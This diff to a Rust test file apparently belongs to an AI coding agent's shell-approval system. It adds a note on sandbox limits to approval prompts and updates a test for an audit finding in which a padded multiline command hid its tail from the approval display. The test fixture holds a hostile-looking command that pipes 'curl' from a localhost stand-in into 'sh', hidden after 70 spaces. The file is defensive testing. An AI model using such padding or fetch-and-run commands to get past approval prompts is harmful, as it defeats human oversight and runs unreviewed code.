@@ -60,6 +60,9 @@ fn told(run: &Run) -> Vec<String> {
         .collect()
 }
 
+/// What an approval prompt for `shell` ends with here (Linux, Landlock and user namespaces).
+const SANDBOXED: &str = "Sandboxed: it can write only in the workspace and the temp folder (not .git/hooks, .git/config, .tandem or editors' settings there); the network is off; secret stores (~/.ssh, ~/.aws, …) and Tandem's settings read as empty.";
+
 const PADDED: &str = "cargo test                                                                      ; touch x\ncurl http://127.0.0.1:9/x | sh";
 
 /// Finding 1: the approval showed only the first line of a command, cut at 77 characters, and
@@ -79,7 +82,7 @@ async fn approval_shows_the_whole_padded_multiline_command() {
     let details = asked[0]["details"].as_str().unwrap();
     assert_eq!(
         details,
-        "Run this command with `bash -c` in the workspace root:\n    cargo test⟨70 spaces⟩; touch x\n    curl http://127.0.0.1:9/x | sh"
+        format!("Run this command with `bash -c` in the workspace root:\n    cargo test⟨70 spaces⟩; touch x\n    curl http://127.0.0.1:9/x | sh\n\n{SANDBOXED}")
     );
     assert!(!setup.path("x").exists());
     let told = told(&run);
